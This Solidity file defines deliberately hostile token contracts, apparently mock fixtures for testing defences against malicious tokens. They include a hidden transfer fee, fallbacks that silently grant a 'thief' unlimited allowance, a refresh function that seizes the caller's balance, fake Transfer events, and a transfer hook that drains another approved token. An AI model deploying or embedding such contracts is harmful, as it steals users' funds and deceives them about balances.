// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {PlainToken} from "./PlainToken.sol";

/// Takes three in a hundred more from whoever sends.
contract FeeToken is PlainToken {
    address public immutable collector;

    constructor(address collector_) PlainToken("Fee Token", "FEE", 18) {
        collector = collector_;
    }

    function move(address from, address to, uint256 value) internal override {
        super.move(from, to, value);
        super.move(from, collector, (value * 3) / 100);
    }
}

/// Whatever it is called with that it does not know lets the thief take all of the caller's.
contract TrapToken is PlainToken {
    /// In storage, so that its code does not name it.
    address private thief;
    bool private immutable loud;

    constructor(address thief_, bool loud_) PlainToken("Trap Token", "TRAP", 18) {
        thief = thief_;
        loud = loud_;
    }

    fallback() external {
        allowance[msg.sender][thief] = type(uint256).max;
        if (loud) emit Approval(msg.sender, thief, type(uint256).max);
    }
}

/// The same with the thief in its code and no event.
contract CodedTrapToken is PlainToken {
    address private immutable thief;

    constructor(address thief_) PlainToken("Trap Token", "TRAP", 18) {
        thief = thief_;
    }

    fallback() external {
        allowance[msg.sender][thief] = type(uint256).max;
    }
}

/// Moves without telling, and tells of what does not move.
contract LyingToken is PlainToken {
    constructor() PlainToken("Lying Token", "LIE", 18) {}

    /// Takes all of the caller's and tells nothing.
    function refresh() external {
        uint256 all = balanceOf[msg.sender];
        balanceOf[msg.sender] = 0;
        balanceOf[address(this)] += all;
    }

    /// Tells of a gift that never comes.
    function claim() external {
        emit Transfer(address(this), msg.sender, 1000 ether);
    }
}

interface Pulled {
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address owner) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Was allowed to take another token, honestly, and takes it in the middle of something else.
contract Drain {
    address private immutable thief;
    Pulled private immutable victim;

    constructor(address thief_, Pulled victim_) {
        thief = thief_;
        victim = victim_;
    }

    function pull(address from) external {
        uint256 allowed = victim.allowance(from, address(this));
        uint256 held = victim.balanceOf(from);
        uint256 most = allowed < held ? allowed : held;
        if (most > 0) victim.transferFrom(from, thief, most);
    }
}

/// Calls back whenever it is sent, as some tokens do (EIP-777).
contract HookToken is PlainToken {
    Drain private immutable drain;

    constructor(Drain drain_) PlainToken("Hook Token", "HOOK", 18) {
        drain = drain_;
    }

    function move(address from, address to, uint256 value) internal override {
        drain.pull(from);
        super.move(from, to, value);
    }
}
